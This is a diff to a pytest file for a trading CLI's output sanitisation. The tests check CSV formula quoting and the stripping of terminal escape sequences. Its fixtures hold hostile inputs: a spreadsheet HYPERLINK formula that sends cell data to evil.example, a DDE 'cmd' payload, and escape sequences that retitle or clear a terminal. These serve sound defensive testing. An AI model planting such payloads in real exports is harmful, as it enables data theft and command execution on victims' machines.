@@ -6,17 +6,17 @@ from __future__ import annotations
 import csv
 import io
 import json
-import os
-import subprocess
-import sys
+from functools import partial
 from pathlib import Path
 
 import pytest
 
 from contracts import AsyncPublisher
-from tests.conftest import count, running_worker, wait_for
+from tests.helpers import count, running_worker, tradescribe, wait_for
 from worker.settings import Settings
 
+# Wide enough that tables neither wrap nor cut the texts the tests look for.
+tradescribe_400 = partial(tradescribe, columns=400)
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "+cmd|' /C calc'!A0",
@@ -25,15 +25,6 @@ FORMULAS = [
     "\t=1+1",
 ]
 ESCAPES = "title \x1b]0;pwned\x07 red \x1b[31mRED\x1b[0m csi \x9b2J bell \x07 [bold]markup[/bold]"
-
-
-def tradescribe(*args: str | Path) -> subprocess.CompletedProcess[str]:
-    env = {k: v for k, v in os.environ.items() if not k.startswith("TRADESCRIBE_")}
-    env["COLUMNS"] = "400"
-    return subprocess.run(
-        [sys.executable, "-m", "worker.cli", *map(str, args)],
-        capture_output=True, text=True, timeout=60, env=env,
-    )  # fmt: skip
 
 
 @pytest.fixture
@@ -54,7 +45,7 @@ async def db(settings: Settings) -> Path:
 
 
 async def test_csv_cells_a_spreadsheet_would_evaluate_are_quoted(db: Path) -> None:
-    out = tradescribe("query", "journal", "--db", db, "--csv")
+    out = tradescribe_400("query", "journal", "--db", db, "--csv")
     assert out.returncode == 0, out.stderr
     texts = {row["text"] for row in csv.DictReader(io.StringIO(out.stdout))}
     assert {"'" + f for f in FORMULAS} <= texts
@@ -62,14 +53,14 @@ async def test_csv_cells_a_spreadsheet_would_evaluate_are_quoted(db: Path) -> No
 
 
 async def test_csv_keeps_negative_numbers_as_numbers(db: Path) -> None:
-    out = tradescribe("query", "history", "--db", db, "--csv")
+    out = tradescribe_400("query", "history", "--db", db, "--csv")
     assert out.returncode == 0, out.stderr
     (row,) = csv.DictReader(io.StringIO(out.stdout))
     assert row["realized_pnl"] == "-103.5"
 
 
 async def test_tables_show_event_text_without_escape_sequences_or_markup(db: Path) -> None:
-    out = tradescribe("query", "journal", "--db", db)
+    out = tradescribe_400("query", "journal", "--db", db)
     assert out.returncode == 0, out.stderr
     assert "\x1b" not in out.stdout
     assert "\x9b" not in out.stdout
@@ -79,7 +70,7 @@ async def test_tables_show_event_text_without_escape_sequences_or_markup(db: Pat
 
 
 async def test_json_output_escapes_the_control_characters_json_leaves_raw(db: Path) -> None:
-    out = tradescribe("query", "journal", "--db", db, "--json")
+    out = tradescribe_400("query", "journal", "--db", db, "--json")
     assert out.returncode == 0, out.stderr
     assert "\x9b" not in out.stdout
     assert "\x1b" not in out.stdout
@@ -94,8 +85,8 @@ async def test_dead_letter_list_and_show_strip_escape_sequences(settings: Settin
         client.xadd(settings.stream, {"event": b"\x1b]0;pwned\x07\x1b[2J not json"})
         await wait_for(lambda: count(settings.db, "dead_letters") == 1, what="dead letter")
     client.close()
-    listed = tradescribe("dlq", "list", "--db", settings.db)
-    shown = tradescribe("dlq", "show", "1", "--db", settings.db)
+    listed = tradescribe_400("dlq", "list", "--db", settings.db)
+    shown = tradescribe_400("dlq", "show", "1", "--db", settings.db)
     assert listed.returncode == shown.returncode == 0, listed.stderr + shown.stderr
     assert "Invalid JSON" in listed.stdout
     assert "pwned" in shown.stdout
